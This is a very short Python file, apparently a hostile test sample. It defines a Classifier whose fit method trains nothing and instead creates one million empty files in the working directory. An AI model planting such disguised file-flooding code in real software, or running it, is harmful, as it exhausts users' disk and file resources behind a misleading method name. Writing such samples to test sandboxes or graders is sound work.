from pathlib import Path


class Classifier:
    def fit(self, X, y):
        for i in range(1_000_000):
            Path(str(i)).touch()
